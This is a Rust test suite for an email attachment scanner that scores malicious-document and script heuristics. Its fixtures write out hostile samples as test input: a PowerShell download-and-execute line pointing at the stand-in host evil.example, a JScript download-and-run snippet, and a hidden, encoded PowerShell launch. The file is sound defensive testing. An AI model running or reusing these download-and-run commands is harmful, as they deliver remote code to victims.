//! Heuristics on documents and scripts, and what unpacking met.

use mail::{FindingKind, Properties, Unscannable};
use unpack::{Fact, FactKind};

use super::making::{Mailing, has, suspicions, weight, zip};
use crate::document::Documents;
use crate::look::Gathered;

/// The heuristics that facts about one document make fire.
fn judged(kinds: &[FactKind]) -> Vec<(String, u8)> {
    let mut gathered = Gathered::default();
    let mut documents = Documents::default();
    for kind in kinds {
        let evidence = format!("seen {kind:?}");
        documents.keep(Fact { kind: *kind, place: "2/a.doc".into(), evidence });
    }
    documents.judge(&mut gathered);
    let fired = gathered.findings.iter().filter(|one| one.kind == FindingKind::Suspicious);
    fired.map(|one| (one.name.clone(), one.weight)).collect()
}

#[test]
fn facts_weigh_more_together_than_apart() {
    use FactKind as K;
    for (facts, name, weight) in [
        (&[K::Macro, K::AutoMacro, K::MacroCall][..], "macro-runs-and-calls", 85),
        (&[K::Macro, K::AutoMacro], "macro-runs", 30),
        (&[K::Macro, K::MacroCall], "macro-calls", 20),
        (&[K::XlmMacro], "xlm-macro", 60),
        (&[K::XlmMacro, K::AutoMacro], "xlm-macro-runs", 70),
        (&[K::XlmMacro, K::MacroCall], "xlm-macro-calls", 70),
        (&[K::XlmMacro, K::AutoMacro, K::MacroCall], "xlm-macro-runs-and-calls", 85),
        (&[K::MacroStomped], "macro-stomped", 80),
        (&[K::Dde], "dde", 70),
        (&[K::ExternalTemplate], "external-template", 70),
        (&[K::ExternalLink], "external-link", 20),
        (&[K::RtfExploit], "exploit-object", 80),
        (&[K::EmbeddedExecutable], "embedded-program", 65),
        (&[K::ActiveX], "activex", 20),
        (&[K::PdfLaunch], "pdf-launch", 80),
        (&[K::PdfScript], "pdf-script", 20),
        (&[K::PdfScript, K::PdfOpenAction], "pdf-script-on-open", 45),
        (&[K::HtmlSmuggling], "html-smuggling", 75),
        (&[K::HtmlForm, K::HtmlScript], "html-form-and-script", 55),
        (&[K::HtmlForm], "html-form", 40),
        (&[K::HtmlScript], "html-script", 20),
    ] {
        assert_eq!(judged(facts), [(name.to_owned(), weight)], "{facts:?}");
    }
    let both = judged(&[K::PdfScript, K::PdfEmbeddedFile]);
    assert!(both.contains(&("pdf-file-and-script".to_owned(), 50)));
}

#[test]
fn what_documents_usually_have_weighs_nothing() {
    use FactKind as K;
    assert!(judged(&[K::Macro, K::MacroSigned]).is_empty());
    assert!(judged(&[K::EmbeddedObject]).is_empty());
    assert!(judged(&[K::PdfOpenAction, K::PdfUri, K::PdfEmbeddedFile]).is_empty());
    assert!(judged(&[K::HiddenText, K::Signed]).is_empty());
}

#[test]
fn a_shortcut_is_judged_by_what_it_starts() {
    let judged = |evidence: &str| {
        let mut gathered = Gathered::default();
        let mut documents = Documents::default();
        let kind = FactKind::Shortcut;
        documents.keep(Fact { kind, place: "2".into(), evidence: evidence.into() });
        documents.judge(&mut gathered);
        gathered.findings[0].weight
    };
    assert_eq!(judged("C:\\Windows\\System32\\cmd.exe /c start x"), 85);
    assert_eq!(judged("C:\\Program Files\\Reader\\reader.exe"), 50);
}

#[test]
fn the_evidence_of_a_heuristic_quotes_what_was_seen() {
    let mut gathered = Gathered::default();
    let mut documents = Documents::default();
    for (kind, words) in
        [(FactKind::AutoMacro, "AutoOpen in module M"), (FactKind::MacroCall, "calls Shell")]
    {
        documents.keep(Fact { kind, place: "2".into(), evidence: words.into() });
    }
    documents.judge(&mut gathered);
    let words = &gathered.findings[0].evidence;
    assert!(words.contains("AutoOpen in module M") && words.contains("calls Shell"), "{words}");
}

#[test]
fn scripts_that_download_and_run_are_told() {
    let script = b"var s = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', u); s.Run(f);";
    let facts = Mailing::new().attach("a.js", script).scan();
    assert_eq!(weight(&facts, "script-downloads-and-runs"), 80);
    let script =
        b"$c = New-Object Net.WebClient\r\nIEX ($c.DownloadString('https://evil.example/a'))\r\n";
    let facts = Mailing::new().attach("a.ps1", script).scan();
    assert_eq!(weight(&facts, "script-downloads-and-runs"), 80);
    let facts =
        Mailing::new().attach("a.bat", b"@echo off\r\npowershell -w hidden -enc AAAA\r\n").scan();
    assert_eq!(weight(&facts, "script-hides-and-runs"), 70);
}

#[test]
fn plain_scripts_are_no_attack() {
    let script =
        b"function add(a, b) { return a + b; }\nmodule.exports = add;\nconsole.log(add(1, 2));\n";
    let facts = Mailing::new().attach("add.js", script).scan();
    assert!(suspicions(&facts).iter().all(|name| !name.starts_with("script-")));
    let facts = Mailing::new()
        .text("powershell and XMLHTTP are words of this text, WScript.Shell too")
        .scan();
    assert!(suspicions(&facts).is_empty());
}

#[test]
fn obfuscated_scripts_are_told() {
    let escapes: String = (0..500).map(|number| format!("\\x{:02x}", number % 256)).collect();
    let script = format!("var a = \"{escapes}\"; eval(a);");
    let facts = Mailing::new().attach("a.js", script.as_bytes()).scan();
    assert_eq!(weight(&facts, "script-obfuscated"), 50);
}

#[test]
fn a_harmless_page_in_the_text_is_no_finding() {
    let raw = b"From: a@b.test\r\nContent-Type: text/html\r\n\r\n<html><body><p>Hello</p><script>x()</script></body></html>\r\n";
    let facts = super::making::scan(raw);
    assert!(suspicions(&facts).is_empty(), "{:?}", suspicions(&facts));
}

#[test]
fn a_damaged_archive_is_unscannable_and_marked() {
    let archive = zip(&[("a.txt", &[b'a'; 5000]), ("b.txt", &[b'b'; 5000])]);
    let facts = Mailing::new().attach("a.zip", &archive[..60]).scan();
    assert!(matches!(facts.unscannable, Some(Unscannable::Broken(_))));
    assert!(facts.findings.iter().any(|one| one.kind == FindingKind::Broken));
    assert!(facts.leaves.iter().any(|leaf| leaf.properties.any(Properties::BROKEN)));
}

#[test]
fn a_limit_is_unscannable_and_what_was_seen_is_kept() {
    let archive = zip(&[("a.txt", b"a"), ("b.txt", b"b"), ("c.txt", b"c")]);
    let limits = unpack::Limits { members: 2, ..unpack::Limits::default() };
    let raw = Mailing::new().attach("a.zip", &archive).done();
    let facts =
        super::making::scan_with(&raw, &crate::Context { limits, ..crate::Context::default() });
    assert!(matches!(facts.unscannable, Some(Unscannable::Limit(_))));
    assert!(facts.findings.iter().any(|one| one.kind == FindingKind::Limit));
    assert!(facts.leaves.iter().any(|leaf| leaf.name == "a.txt"));
}

#[test]
fn a_stopwatch_that_is_over_ends_the_look_as_a_limit() {
    struct Over;
    impl unpack::Stopwatch for Over {
        fn is_over(&self) -> bool {
            true
        }
    }
    let raw = Mailing::new().attach("a.zip", &zip(&[("a.txt", b"a")])).done();
    let context = crate::Context { stopwatch: &Over, ..crate::Context::default() };
    let facts = super::making::scan_with(&raw, &context);
    assert!(matches!(facts.unscannable, Some(Unscannable::Limit(_))));
}

#[test]
fn ambiguous_and_broken_messages_are_told_as_such() {
    let facts = super::making::scan(b"Subject: a\r\nSubject: b\r\n\r\nx");
    assert!(facts.findings.iter().any(|one| one.kind == FindingKind::Ambiguous));
    let facts = super::making::scan(b"no header");
    assert!(facts.findings.iter().any(|one| one.kind == FindingKind::Defect));
    let raw = b"From: a@b.test\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nMII=\r\n";
    let facts = super::making::scan(raw);
    assert!(facts.findings.iter().any(|one| one.kind == FindingKind::Encrypted));
}

#[test]
fn a_document_in_an_archive_keeps_its_own_marks() {
    let facts = Mailing::new()
        .attach(
            "a.zip",
            &zip(&[("page.html", b"<html><script>x()</script></html>"), ("b.txt", b"b")]),
        )
        .scan();
    assert!(has(&facts, "page.html", Properties::ACTIVE_CONTENT));
    assert!(!has(&facts, "a.zip", Properties::ACTIVE_CONTENT));
}
